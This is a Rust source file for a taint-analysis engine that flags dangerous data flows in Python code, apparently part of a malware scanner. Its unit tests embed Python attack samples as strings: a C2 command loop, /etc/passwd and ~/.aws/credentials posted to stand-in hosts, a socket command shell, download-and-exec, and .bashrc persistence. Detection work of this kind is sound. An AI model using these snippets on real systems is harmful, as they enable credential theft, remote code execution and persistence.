//! The intra-procedural taint engine.
//!
//! One linear pass per scope: statements are processed in program
//! order, sharing a mutable environment of variable → taint bindings
//! and variable → constant-string bindings. Function and class bodies
//! are analyzed in a child environment layered over the enclosing one
//! (module-level constants and imports stay visible), with no
//! cross-call propagation — the soundness boundary `docs/
//! threat_model.md` documents. There is no fixpoint iteration, so cost
//! is linear in statement count and output is deterministic.
//!
//! Names and constants borrow the module: a scope is keyed by slices of
//! its source text, a literal evaluates to a borrowed constant, and a
//! child scope overlays its parent instead of copying it. Callee paths are
//! built in reusable buffers. Block headers are evaluated from the
//! expressions the parser already built ([`pysrc::Header`]).

use std::borrow::{Borrow, Cow};
use std::collections::{BTreeMap, HashSet};

use pysrc::{Arg, Expr, Header, Module, Stmt, Suite};

use crate::catalog::{is_startup_path, sink_of, source_of, SinkKind, SourceKind};
use crate::fold;
use crate::{FlowFinding, FlowStep, FoldedConst, TaintSummary};

/// Bound on distinct taints carried per binding (dedup by source path
/// keeps this small in practice; the cap defends against adversarial
/// fan-in).
const MAX_TAINTS: usize = 8;
/// Bound on steps retained per chain: first steps (the source and early
/// carries) plus the final sink step always survive.
const MAX_STEPS: usize = 12;
/// Bound on recorded folded constants per module.
const MAX_FOLDED: usize = 64;
/// Folded constants shorter than this are noise (`'po' + 'st'` matters
/// for callee folding but not as a scan layer).
const MIN_FOLDED_LEN: usize = 4;
/// Notes longer than this are truncated — chains must stay cheap to
/// store in the artifact cache.
const MAX_NOTE_LEN: usize = 96;

/// One taint mark: where the value came from and how it got here.
#[derive(Debug, Clone)]
struct Taint {
    source: String,
    kind: SourceKind,
    steps: Vec<FlowStep>,
}

/// A lexical scope's environment over the module `'m`, layered on its
/// enclosing scope: an entry here shadows the parent's, and a `None`
/// entry hides it. `BTreeMap` keeps every table deterministic.
struct Scope<'m, 'p> {
    parent: Option<&'p Scope<'m, 'p>>,
    /// Tainted bindings. A block header can bind a word that is not a
    /// slice of the module (see [`ident_words`]), hence `Cow` keys.
    vars: BTreeMap<Cow<'m, str>, Option<Vec<Taint>>>,
    /// Constant-string bindings (for folding through locals).
    consts: BTreeMap<&'m str, Option<Cow<'m, str>>>,
    /// Import bindings: local name → canonical dotted path.
    aliases: BTreeMap<&'m str, Cow<'m, str>>,
    /// Every import binding anywhere in the module, used as a fallback
    /// when a name has no in-scope binding. Obfuscators rewrite call
    /// spellings textually — `ctx.post(...)` can appear in a function
    /// whose `import requests as ctx` lives in a sibling — and the
    /// fallback keeps those aliases resolvable.
    globals: &'p BTreeMap<&'m str, Cow<'m, str>>,
}

impl<'m, 'p> Scope<'m, 'p> {
    /// The scope of a function or class body inside this one.
    fn child(&self) -> Scope<'m, '_> {
        Scope {
            parent: Some(self),
            vars: BTreeMap::new(),
            consts: BTreeMap::new(),
            aliases: BTreeMap::new(),
            globals: self.globals,
        }
    }

    /// The innermost entry for `name` in the table `table` picks.
    fn find<'s, K: Ord + Borrow<str> + 's, E: 's>(
        &'s self,
        name: &str,
        table: impl Fn(&'s Self) -> &'s BTreeMap<K, E>,
    ) -> Option<&'s E> {
        let mut scope = self;
        loop {
            if let Some(entry) = table(scope).get(name) {
                return Some(entry);
            }
            scope = scope.parent?;
        }
    }

    fn var(&self, name: &str) -> Option<&Vec<Taint>> {
        self.find(name, |s| &s.vars)?.as_ref()
    }

    fn constant(&self, name: &str) -> Option<&Cow<'m, str>> {
        self.find(name, |s| &s.consts)?.as_ref()
    }

    /// Binds (`Some`) or unbinds (`None`) a variable in this scope.
    fn set_var(&mut self, name: Cow<'m, str>, taints: Option<Vec<Taint>>) {
        let inherited = self.parent.is_some_and(|p| p.var(&name).is_some());
        set(&mut self.vars, name, taints, inherited);
    }

    /// Binds (`Some`) or unbinds (`None`) a constant in this scope.
    fn set_const(&mut self, name: &'m str, value: Option<Cow<'m, str>>) {
        let inherited = self.parent.is_some_and(|p| p.constant(name).is_some());
        set(&mut self.consts, name, value, inherited);
    }

    /// Resolves an import alias: the in-scope binding wins; the
    /// module-wide table answers only for names with no local variable
    /// or constant binding (never hijack a local).
    fn alias(&self, name: &str) -> Option<&Cow<'m, str>> {
        self.find(name, |s| &s.aliases).or_else(|| {
            if self.var(name).is_some() || self.constant(name).is_some() {
                None
            } else {
                self.globals.get(name)
            }
        })
    }
}

/// Sets one scope's entry for `name`. Unbinding leaves a `None`
/// tombstone only where an enclosing scope still binds the name.
fn set<K: Ord + Borrow<str>, V>(
    table: &mut BTreeMap<K, Option<V>>,
    name: K,
    value: Option<V>,
    inherited: bool,
) {
    if value.is_none() && !inherited {
        table.remove(name.borrow());
    } else {
        table.insert(name, value);
    }
}

/// The value of an evaluated expression, borrowing constants from the
/// expression's tree (`'e`).
#[derive(Debug, Default)]
struct Value<'e> {
    taints: Vec<Taint>,
    /// Constant string value, when the expression folds.
    cval: Option<Cow<'e, str>>,
    /// True when a real folding operation produced `cval` (as opposed
    /// to a literal or a plain lookup).
    folded: bool,
}

impl<'e> Value<'e> {
    fn constant(s: Cow<'e, str>) -> Value<'e> {
        Value {
            cval: Some(s),
            ..Value::default()
        }
    }
}

struct Analyzer<'m> {
    module: &'m Module,
    flows: Vec<FlowFinding>,
    flow_keys: HashSet<(String, String)>,
    folded: Vec<FoldedConst>,
    /// Callee-path buffers, one per nesting level in use: a call holds
    /// its path while its callee and arguments are evaluated.
    paths: Vec<String>,
}

/// Runs the taint analysis over a parsed module.
pub fn analyze(module: &Module) -> TaintSummary {
    let mut a = Analyzer {
        module,
        flows: Vec::new(),
        flow_keys: HashSet::new(),
        folded: Vec::new(),
        paths: Vec::new(),
    };
    let mut globals = BTreeMap::new();
    collect_global_aliases(module, &mut globals);
    let mut scope = Scope {
        parent: None,
        vars: BTreeMap::new(),
        consts: BTreeMap::new(),
        aliases: BTreeMap::new(),
        globals: &globals,
    };
    a.walk(module.top_level(), &mut scope);
    a.flows.sort();
    a.flows.dedup();
    a.folded.sort();
    a.folded.dedup();
    TaintSummary {
        flows: a.flows,
        folded: a.folded,
    }
}

impl<'m> Analyzer<'m> {
    fn walk(&mut self, body: Suite<'m>, scope: &mut Scope<'m, '_>) {
        for stmt in body {
            self.stmt(stmt, scope);
        }
    }

    fn stmt(&mut self, stmt: &'m Stmt, scope: &mut Scope<'m, '_>) {
        let module = self.module;
        let (src, line) = (module.source(), module.line(stmt));
        match *stmt {
            Stmt::Import { modules, .. } => {
                for m in module.imports(modules) {
                    let target = match &m.alias {
                        Some(_) => m.path.dotted(src),
                        // `import a.b` binds `a`, naming module `a`.
                        None => Cow::Borrowed(m.binding(src)),
                    };
                    scope.aliases.insert(m.binding(src), target);
                }
            }
            Stmt::FromImport {
                module: from,
                names,
                ..
            } => {
                for n in module.imports(names) {
                    let name = n.path.text(src);
                    if name == "*" {
                        continue;
                    }
                    let target = format!("{}.{name}", from.dotted(src));
                    scope.aliases.insert(n.binding(src), Cow::Owned(target));
                }
            }
            Stmt::Assign { targets, value, .. } => {
                let value = module.expr(value);
                let v = self.eval(value, scope, line);
                self.record_fold(line, &v);
                for target in module.targets(targets) {
                    let base = target_base(target, module);
                    if base.is_empty() {
                        continue;
                    }
                    scope.set_const(base, v.cval.clone());
                    if v.taints.is_empty() {
                        scope.set_var(Cow::Borrowed(base), None);
                    } else {
                        let note = clip(format!("{base} = {}", clip(value.to_text(module))));
                        scope.set_var(Cow::Borrowed(base), Some(stepped(&v.taints, line, &note)));
                    }
                }
            }
            Stmt::Expr { value, .. }
            | Stmt::Return {
                value: Some(value), ..
            } => {
                // A return is not a sink: returning tainted data to an
                // unknown caller is the legit half of the corpus (version
                // strings, API lookups). Evaluate for sinks *inside* the
                // returned expression only.
                let v = self.eval(module.expr(value), scope, line);
                self.record_fold(line, &v);
            }
            Stmt::Return { value: None, .. } => {}
            Stmt::Block { parsed, body, .. } => {
                if let Some(header) = parsed {
                    self.block_header(header, scope, line);
                }
                self.walk(module.suite(body), scope);
            }
            Stmt::FunctionDef { params, body, .. }
            | Stmt::ClassDef {
                bases: params,
                body,
                ..
            } => {
                // Child scope: module bindings visible, parameters
                // shadow (and are untainted — intra-procedural).
                let mut child = scope.child();
                for p in module.names(params) {
                    // A dotted base binds nothing a name could look up.
                    let p = p.text(src);
                    child.set_var(Cow::Borrowed(p), None);
                    child.set_const(p, None);
                }
                self.walk(module.suite(body), &mut child);
            }
            Stmt::Other { text, .. } => {
                let text = module.owned(text);
                // Unparsed statements still get the identifier scan so
                // taint is not silently laundered through them... but
                // only to *detect* sink-looking text is too fragile;
                // instead, kill constness/taint of any identifier
                // assigned in the text to stay conservative.
                if let Some(eq) = text.find('=') {
                    let base = leading_ident(text[..eq].trim());
                    if !base.is_empty() {
                        scope.set_const(base, None);
                    }
                }
            }
        }
    }

    /// `with X as v:` / `for v in X:` headers bind names; conditions
    /// can contain source/sink calls. The header's expression is
    /// evaluated in the block's scope.
    fn block_header(&mut self, header: Header, scope: &mut Scope<'m, '_>, line: usize) {
        let v = self.eval(self.module.expr(header.value), scope, line);
        self.record_fold(line, &v);
        if let Some(target) = header.target {
            bind_header_targets(target.text(self.module.source()), &v.taints, scope, line);
        }
    }

    fn eval(&mut self, expr: &'m Expr, scope: &Scope<'m, '_>, line: usize) -> Value<'m> {
        let module = self.module;
        let src = module.source();
        match *expr {
            Expr::Name(n) => Value {
                taints: scope.var(n.text(src)).cloned().unwrap_or_default(),
                cval: scope.constant(n.text(src)).cloned(),
                folded: false,
            },
            Expr::Str(s) => Value::constant(Cow::Borrowed(s.text(module))),
            Expr::Num(n) => Value::constant(Cow::Borrowed(n.text(src))),
            Expr::Attribute { value, .. } => {
                // Taint flows through attribute access (`resp.text`),
                // and a dotted path can itself be a source
                // (`os.environ`). A constant receiver is preserved so
                // method-call chains (`fromhex(..).decode(..)`) keep
                // folding at the enclosing call.
                let mut v = self.eval(module.expr(value), scope, line);
                let mut path = self.paths.pop().unwrap_or_default();
                callee_path(expr, module, scope, &mut path);
                if let Some(kind) = source_of(&path) {
                    add_taint(
                        &mut v.taints,
                        Taint {
                            source: path.clone(),
                            kind,
                            steps: vec![FlowStep {
                                line: line as u32,
                                note: clip(format!("read {path}")),
                            }],
                        },
                    );
                }
                self.give_back(path);
                v
            }
            Expr::BinOp { left, op, right } => {
                let l = self.eval(module.expr(left), scope, line);
                let r = self.eval(module.expr(right), scope, line);
                let mut v = Value {
                    taints: l.taints,
                    ..Value::default()
                };
                for t in r.taints {
                    add_taint(&mut v.taints, t);
                }
                match (op, &l.cval, &r.cval) {
                    ("+", Some(a), Some(b)) => {
                        v.cval = Some(Cow::Owned(format!("{a}{b}")));
                        v.folded = true;
                    }
                    ("%", Some(a), Some(b)) => {
                        if let Some(folded) = fold::fold_percent(a, b) {
                            v.cval = Some(Cow::Owned(folded));
                            v.folded = true;
                        }
                    }
                    _ => {}
                }
                v
            }
            Expr::Call { func, args } => {
                self.eval_call(module.expr(func), module.args(args), scope, line)
            }
            Expr::Other(text) => self.scan_idents(module.owned(text), scope),
        }
    }

    fn eval_call(
        &mut self,
        func: &'m Expr,
        args: &'m [Arg],
        scope: &Scope<'m, '_>,
        line: usize,
    ) -> Value<'m> {
        let mut path = self.paths.pop().unwrap_or_default();
        self.callee_path_with_consts(func, scope, line, &mut path);

        // Receiver taints (method call on a tainted object) — also
        // evaluates any nested call in the callee position exactly once.
        let recv = self.eval(func, scope, line);

        // Arguments.
        let mut arg_vals: Vec<Value<'m>> = Vec::with_capacity(args.len());
        for a in args {
            let v = self.eval(self.module.expr(a.value), scope, line);
            self.record_fold(line, &v);
            arg_vals.push(v);
        }

        let mut out = Value {
            taints: recv.taints.clone(),
            ..Value::default()
        };
        for v in &arg_vals {
            for t in &v.taints {
                add_taint(&mut out.taints, t.clone());
            }
        }

        // Constant folding of decode/transform chains.
        fold_call(&path, func, self.module, &arg_vals, &mut out, &recv);

        // Sink check: tainted data reaching a cataloged sink.
        if let Some(kind) = sink_of(&path) {
            for v in &arg_vals {
                for t in &v.taints {
                    self.emit_flow(t, &path, kind, line);
                }
            }
        }
        // Receiver-based sink: write through a startup-path handle.
        if path.ends_with(".write") {
            for t in &recv.taints {
                if t.kind == SourceKind::StartupOpen {
                    self.emit_flow(t, &path, SinkKind::StartupWrite, line);
                }
            }
        }

        // Source check: the call's result is tainted.
        if let Some(kind) = source_of(&path) {
            add_taint(
                &mut out.taints,
                Taint {
                    source: path.clone(),
                    kind,
                    steps: vec![FlowStep {
                        line: line as u32,
                        note: clip(format!("call {path}(...)")),
                    }],
                },
            );
        }
        // `open` on a startup/config path yields a persistence handle.
        if path == "open" || path == "io.open" {
            if let Some(target) = arg_vals.first().and_then(|v| v.cval.as_deref()) {
                if is_startup_path(target) {
                    add_taint(
                        &mut out.taints,
                        Taint {
                            source: format!("open[{target}]"),
                            kind: SourceKind::StartupOpen,
                            steps: vec![FlowStep {
                                line: line as u32,
                                note: clip(format!("open startup path {target}")),
                            }],
                        },
                    );
                }
            }
        }
        self.give_back(path);
        out
    }

    /// Appends the canonical dotted path of a callee to `out`, like
    /// [`callee_path`] but letting `getattr`'s name argument fold first
    /// (`getattr(os, 'sys' + 'tem')`) and resolving `__import__('m')`.
    fn callee_path_with_consts(
        &mut self,
        func: &'m Expr,
        scope: &Scope<'m, '_>,
        line: usize,
        out: &mut String,
    ) {
        let module = self.module;
        let start = out.len();
        match *func {
            Expr::Call { func: inner, args } => {
                let args = module.args(args);
                self.callee_path_with_consts(module.expr(inner), scope, line, out);
                let head = &out[start..];
                if head == "getattr" && args.len() >= 2 {
                    out.truncate(start);
                    self.callee_path_with_consts(module.expr(args[0].value), scope, line, out);
                    match self.eval(module.expr(args[1].value), scope, line).cval {
                        Some(name) => {
                            if out.len() > start {
                                out.push('.');
                            }
                            out.push_str(&name);
                        }
                        None => out.truncate(start),
                    }
                } else if head == "__import__" {
                    out.truncate(start);
                    if let Some(first) = args.first() {
                        if let Some(m) = self.eval(module.expr(first.value), scope, line).cval {
                            out.push_str(&m);
                        }
                    }
                }
            }
            Expr::Attribute { value, attr } => {
                self.callee_path_with_consts(module.expr(value), scope, line, out);
                if out.len() > start {
                    out.push('.');
                }
                out.push_str(attr.text(module.source()));
            }
            _ => callee_path(func, module, scope, out),
        }
    }

    /// Returns a callee-path buffer to the pool.
    fn give_back(&mut self, mut path: String) {
        path.clear();
        self.paths.push(path);
    }

    fn emit_flow(&mut self, taint: &Taint, sink: &str, kind: SinkKind, line: usize) {
        let key = (taint.source.clone(), sink.to_owned());
        if !self.flow_keys.insert(key) {
            return;
        }
        let mut steps = taint.steps.clone();
        push_step(&mut steps, line, clip(format!("reaches sink {sink}(...)")));
        self.flows.push(FlowFinding {
            label: format!("flow:{}->{}", taint.kind.label(), kind.label()),
            source: taint.source.clone(),
            sink: sink.to_owned(),
            steps,
        });
    }

    /// Identifier scan over reconstructed text (`Expr::Other`): dict/
    /// list literals, subscripts and tuples degrade to text, but taint
    /// must still flow through them (`requests.post(url, json={'email':
    /// email})`).
    fn scan_idents(&mut self, text: &str, scope: &Scope<'_, '_>) -> Value<'m> {
        let mut v = Value::default();
        for word in ident_words(text) {
            if let Some(ts) = scope.var(&word) {
                for t in ts {
                    add_taint(&mut v.taints, t.clone());
                }
            }
        }
        v
    }

    fn record_fold(&mut self, line: usize, v: &Value<'_>) {
        if !v.folded || self.folded.len() >= MAX_FOLDED {
            return;
        }
        if let Some(c) = &v.cval {
            if c.len() >= MIN_FOLDED_LEN {
                self.folded.push(FoldedConst {
                    line: line as u32,
                    text: c.to_string(),
                });
            }
        }
    }
}

/// Folds constant-producing calls: decode chains, const-preserving
/// string methods, `chr`, passthroughs.
fn fold_call<'e>(
    path: &str,
    func: &Expr,
    module: &Module,
    arg_vals: &[Value<'e>],
    out: &mut Value<'e>,
    recv: &Value<'e>,
) {
    let arg0 = arg_vals.first().and_then(|v| v.cval.as_deref());
    let decoded = match path {
        "base64.b64decode" => arg0.and_then(fold::fold_b64decode),
        "bytes.fromhex" => arg0.and_then(fold::fold_fromhex),
        "chr" => arg0.and_then(fold::fold_chr),
        "str" | "os.path.expanduser" | "os.fsdecode" => {
            if let Some(first) = arg_vals.first().filter(|v| v.cval.is_some()) {
                out.cval = first.cval.clone();
                out.folded = first.folded;
            }
            None
        }
        _ => {
            // `const.decode('utf-8')`, `.strip()`, ... — method on a
            // constant receiver preserves the constant.
            if let Expr::Attribute { attr, .. } = func {
                if fold::const_preserving_method(attr.text(module.source())) && recv.cval.is_some()
                {
                    out.cval = recv.cval.clone();
                    out.folded = recv.folded;
                }
            }
            None
        }
    };
    if let Some(c) = decoded {
        out.cval = Some(Cow::Owned(c));
        out.folded = true;
    }
}

/// Appends the canonical dotted path of a callee to `out`, resolving
/// import aliases. Appends nothing for shapes without a path.
fn callee_path(expr: &Expr, module: &Module, scope: &Scope<'_, '_>, out: &mut String) {
    let src = module.source();
    match *expr {
        Expr::Name(n) => {
            let n = n.text(src);
            out.push_str(scope.alias(n).map_or(n, |a| a.as_ref()));
        }
        Expr::Attribute { value, attr } => {
            let start = out.len();
            callee_path(module.expr(value), module, scope, out);
            if out.len() > start {
                out.push('.');
            }
            out.push_str(attr.text(src));
        }
        Expr::Call { func, .. } => callee_path(module.expr(func), module, scope, out),
        Expr::Other(_) => {
            let p = expr.func_path(module);
            if !p.is_empty() {
                resolve_first_segment(&p, scope, out);
            }
        }
        _ => {}
    }
}

fn resolve_first_segment(path: &str, scope: &Scope<'_, '_>, out: &mut String) {
    match path.split_once('.') {
        Some((head, rest)) => match scope.alias(head) {
            Some(full) => {
                out.push_str(full);
                out.push('.');
                out.push_str(rest);
            }
            None => out.push_str(path),
        },
        None => out.push_str(scope.alias(path).map_or(path, |a| a.as_ref())),
    }
}

/// Collects every import binding in the module, recursing into every
/// nested body, for [`Scope::globals`].
fn collect_global_aliases<'m>(module: &'m Module, out: &mut BTreeMap<&'m str, Cow<'m, str>>) {
    let src = module.source();
    for stmt in module.statements() {
        match *stmt {
            Stmt::Import { modules, .. } => {
                for m in module.imports(modules) {
                    out.entry(m.binding(src)).or_insert_with(|| match &m.alias {
                        Some(_) => m.path.dotted(src),
                        None => Cow::Borrowed(m.binding(src)),
                    });
                }
            }
            Stmt::FromImport {
                module: from,
                names,
                ..
            } => {
                for n in module.imports(names) {
                    let name = n.path.text(src);
                    if name == "*" {
                        continue;
                    }
                    out.entry(n.binding(src))
                        .or_insert_with(|| Cow::Owned(format!("{}.{name}", from.dotted(src))));
                }
            }
            _ => {}
        }
    }
}

/// Binds each name of a `for`/`with` header's target text to the
/// header value's `taints` (or unbinds it, when there are none).
fn bind_header_targets<'m>(
    targets: &'m str,
    taints: &[Taint],
    scope: &mut Scope<'m, '_>,
    line: usize,
) {
    for name in ident_words(targets) {
        if taints.is_empty() {
            scope.set_var(name, None);
        } else {
            let note = clip(format!("{name} bound in block header"));
            let taints = stepped(taints, line, &note);
            scope.set_var(name, Some(taints));
        }
    }
}

/// Copies of `taints`, each carried one step further by `note`.
fn stepped(taints: &[Taint], line: usize, note: &str) -> Vec<Taint> {
    taints
        .iter()
        .map(|t| {
            let mut t = t.clone();
            push_step(&mut t.steps, line, note.to_owned());
            t
        })
        .collect()
}

fn add_taint(taints: &mut Vec<Taint>, t: Taint) {
    if taints.len() >= MAX_TAINTS {
        return;
    }
    if taints.iter().any(|e| e.source == t.source) {
        return;
    }
    taints.push(t);
}

fn push_step(steps: &mut Vec<FlowStep>, line: usize, note: String) {
    if steps.len() >= MAX_STEPS {
        // Keep the head of the chain; the sink step replaces the tail.
        steps.truncate(MAX_STEPS - 1);
    }
    steps.push(FlowStep {
        line: line as u32,
        note,
    });
}

/// The base identifier of an assignment target, read off the front of
/// its rendering: `loot[t]` → `loot`, `obj.attr` → `obj`, `'s'` → empty.
fn target_base<'m>(target: &'m Expr, module: &'m Module) -> &'m str {
    match *target {
        Expr::Name(s) | Expr::Num(s) => leading_ident(s.text(module.source())),
        Expr::Attribute { value: head, .. }
        | Expr::Call { func: head, .. }
        | Expr::BinOp { left: head, .. } => target_base(module.expr(head), module),
        Expr::Str(_) => "",
        Expr::Other(text) => leading_ident(module.owned(text)),
    }
}

/// The leading run of ASCII identifier bytes of `text`.
fn leading_ident(text: &str) -> &str {
    let end = text
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(text.len());
    &text[..end]
}

/// Identifier-shaped words in reconstructed text, skipping quoted runs
/// and words that start with a digit. A quoted run does not end a word:
/// `a'x'b` reads as `ab`, the one shape whose word is not a slice of
/// `text` and so owns its bytes.
fn ident_words(text: &str) -> impl Iterator<Item = Cow<'_, str>> {
    let bytes = text.as_bytes();
    let mut pos = 0;
    std::iter::from_fn(move || {
        // The word so far: `start..end`, until a quoted run splits it.
        let mut word: Option<(usize, usize)> = None;
        let mut glued: Option<String> = None;
        let mut quote = None;
        loop {
            let b = bytes.get(pos).copied();
            pos += 1;
            match (b, quote) {
                (Some(b), Some(q)) => {
                    if b == q {
                        quote = None;
                    }
                }
                (Some(b @ (b'\'' | b'"')), None) => quote = Some(b),
                (Some(b), None) if b.is_ascii_alphanumeric() || b == b'_' => {
                    let at = pos - 1;
                    match (&mut glued, &mut word) {
                        (Some(g), _) => g.push(char::from(b)),
                        (None, Some((_, end))) if *end == at => *end += 1,
                        (None, Some((start, end))) => {
                            let mut g = text[*start..*end].to_owned();
                            g.push(char::from(b));
                            glued = Some(g);
                        }
                        (None, None) => word = Some((at, at + 1)),
                    }
                }
                // A separator, or the end of the text (also inside an
                // unclosed quote).
                _ => {
                    if let Some((start, end)) = word.take() {
                        let owned = glued.take();
                        if !bytes[start].is_ascii_digit() {
                            return Some(
                                owned.map_or(Cow::Borrowed(&text[start..end]), Cow::Owned),
                            );
                        }
                    }
                    // The end of the text ends the iteration.
                    b?;
                }
            }
        }
    })
}

fn clip(mut s: String) -> String {
    if s.len() <= MAX_NOTE_LEN {
        return s;
    }
    let mut cut = MAX_NOTE_LEN;
    while !s.is_char_boundary(cut) {
        cut -= 1;
    }
    s.truncate(cut);
    s.push('…');
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flows(src: &str) -> Vec<FlowFinding> {
        analyze(&pysrc::parse_module(src)).flows
    }

    fn labels(src: &str) -> Vec<String> {
        flows(src).into_iter().map(|f| f.label).collect()
    }

    #[test]
    fn c2_fetch_to_system() {
        let src = "def f():\n    import requests, os\n    while True:\n        try:\n            cmd = requests.get('https://c2.example/tasks', timeout=5).text\n            if cmd:\n                os.system(cmd)\n        except Exception:\n            pass\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "requests.get");
        assert_eq!(fs[0].sink, "os.system");
        assert_eq!(fs[0].label, "flow:net-fetch->proc-exec");
        // The chain names the carrier assignment and both endpoints.
        assert!(fs[0].steps.len() >= 3, "{:?}", fs[0].steps);
        assert!(fs[0].steps.iter().any(|s| s.note.contains("cmd =")));
    }

    #[test]
    fn alias_resolution_through_import_as() {
        let src =
            "import os as o\nimport requests as r\ncmd = r.get('http://x').text\no.system(cmd)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "requests.get");
        assert_eq!(fs[0].sink, "os.system");
    }

    #[test]
    fn from_import_alias_resolution() {
        let src = "from subprocess import run as r\nfrom os import environ\nr(environ.get('PATH'), shell=True)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "os.environ.get");
        assert_eq!(fs[0].sink, "subprocess.run");
    }

    #[test]
    fn sibling_function_alias_resolves_via_module_wide_fallback() {
        // Textual obfuscators rewrite `requests.post` to the alias
        // bound by an `import requests as ctx` that lives in a
        // *different* function. The module-wide fallback keeps the
        // rewritten spelling resolvable.
        let src = "def a():\n    import requests as ctx\n    return ctx.get('http://x')\ndef b():\n    import os, requests\n    data = open('/etc/passwd').read()\n    ctx.post('http://c2.evil', json=data)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "open");
        assert_eq!(fs[0].sink, "requests.post");
    }

    #[test]
    fn local_binding_shadows_the_global_alias_fallback() {
        // `ctx` is a plain local constant in `b`; the sibling import
        // alias must not hijack it into `requests.post`.
        let src = "def a():\n    import requests as ctx\n    return ctx.get('http://x')\ndef b():\n    ctx = 'label'\n    data = open('/etc/passwd').read()\n    ctx.post(data)\n";
        let fs = flows(src);
        assert!(fs.is_empty(), "{fs:?}");
    }

    #[test]
    fn getattr_indirection_folds_to_dotted_path() {
        let src = "import os, requests\ncmd = getattr(requests, 'get')('http://x').text\ngetattr(os, 'system')(cmd)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "requests.get");
        assert_eq!(fs[0].sink, "os.system");
    }

    #[test]
    fn dunder_import_with_encoded_name_folds() {
        // The string arm's own output shape: module and attribute both
        // reconstructed at runtime.
        let src = "data = input()\ngetattr(__import__('o' + 's'), 'sys' + 'tem')(data)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "input");
        assert_eq!(fs[0].sink, "os.system");
        assert_eq!(fs[0].label, "flow:stdin-read->proc-exec");
    }

    #[test]
    fn socket_recv_to_subprocess_and_send_back() {
        let src = "def serve():\n    import socket, subprocess\n    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    while True:\n        conn, _addr = srv.accept()\n        data = conn.recv(1024).decode()\n        out = subprocess.run(data, shell=True, capture_output=True)\n        conn.send(out.stdout + out.stderr)\n";
        let ls = labels(src);
        assert!(
            ls.contains(&"flow:socket-recv->proc-exec".to_owned()),
            "{ls:?}"
        );
        assert!(
            ls.contains(&"flow:socket-recv->socket-send".to_owned()),
            "{ls:?}"
        );
    }

    #[test]
    fn env_dict_to_post() {
        let src = "def f():\n    import os, requests\n    env = dict(os.environ)\n    requests.post('https://x/collect', json=env)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].label, "flow:env-read->net-send");
    }

    #[test]
    fn file_read_through_subscript_target_to_post() {
        let src = "def f():\n    import os, requests\n    loot = {}\n    for t in ['~/.aws/credentials']:\n        path = os.path.expanduser(t)\n        loot[t] = open(path).read()\n    requests.post('https://h/x', json=loot)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].label, "flow:file-read->net-send");
        assert_eq!(fs[0].source, "open");
    }

    #[test]
    fn taint_through_dict_literal_argument() {
        let src = "import subprocess, requests\nemail = subprocess.check_output(['git', 'config', 'user.email']).decode()\nrequests.post('https://h/x', json={'email': email})\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].label, "flow:proc-read->net-send");
    }

    #[test]
    fn popen_lines_to_kill() {
        let src = "def f():\n    import os, signal\n    for line in os.popen('ps ax').readlines():\n        if 'defender' in line:\n            pid = int(line.split()[0])\n            os.kill(pid, signal.SIGKILL)\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].label, "flow:proc-read->proc-control");
    }

    #[test]
    fn download_to_exec_compile() {
        let src = "def inject():\n    import requests\n    src = requests.get('https://h/i.py').text\n    exec(compile(src, 'inject', 'exec'))\n";
        let fs = flows(src);
        let sinks: Vec<&str> = fs.iter().map(|f| f.sink.as_str()).collect();
        assert!(sinks.contains(&"compile"), "{fs:?}");
        assert!(sinks.contains(&"exec"), "{fs:?}");
    }

    #[test]
    fn startup_path_write_flow() {
        let src = "def f():\n    import os\n    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n        rc.write('python3 /tmp/.x.py &\\n')\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].label, "flow:startup-open->startup-write");
        assert!(fs[0].source.contains(".bashrc"), "{fs:?}");
    }

    #[test]
    fn async_blocks_read_their_headers_like_sync_ones() {
        for prefix in ["", "async "] {
            let src = format!("{prefix}with open(os.environ['K']) as f:\n    os.system(f)\n");
            assert_eq!(flows(&src).len(), 1, "{src}");
            let src = format!("{prefix}for line in os.popen('ps'):\n    os.kill(line, 9)\n");
            assert_eq!(labels(&src), ["flow:proc-read->proc-control"], "{src}");
        }
    }

    #[test]
    fn etc_hosts_write_without_expanduser() {
        let src = "def f():\n    with open('/etc/hosts', 'a') as hosts:\n        hosts.write('0.0.0.0 x\\n')\n";
        assert_eq!(labels(src), vec!["flow:startup-open->startup-write"]);
    }

    #[test]
    fn config_extraction_direct_nesting() {
        let src = "import requests\nrequests.post('https://h/x', data=open('/etc/passwd', 'rb').read())\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].label, "flow:file-read->net-send");
    }

    #[test]
    fn benign_patterns_produce_no_flows() {
        // The legit corpus shapes: constant subprocess args, tainted
        // data that is only returned, fetches whose args are clean.
        for src in [
            "import subprocess\nsubprocess.run(['git', 'describe', '--tags'], capture_output=True)\n",
            "def v():\n    with open('VERSION.txt') as fh:\n        return fh.read().strip()\n",
            "import os\ndef home():\n    return os.environ.get('HOME', '')\n",
            "import requests\ndef latest(repo):\n    resp = requests.get('https://api.github.com/repos/%s/releases/latest' % repo, timeout=10)\n    resp.raise_for_status()\n    return resp.json()['tag_name']\n",
            "import base64\ndef uri(path):\n    with open(path, 'rb') as fh:\n        payload = base64.b64encode(fh.read()).decode('ascii')\n    return 'data:application/octet-stream;base64,' + payload\n",
        ] {
            assert!(flows(src).is_empty(), "unexpected flow in {src}");
        }
    }

    #[test]
    fn folding_recovers_split_and_encoded_constants() {
        let b64 = digest::base64::encode(b"https://evil.example/x");
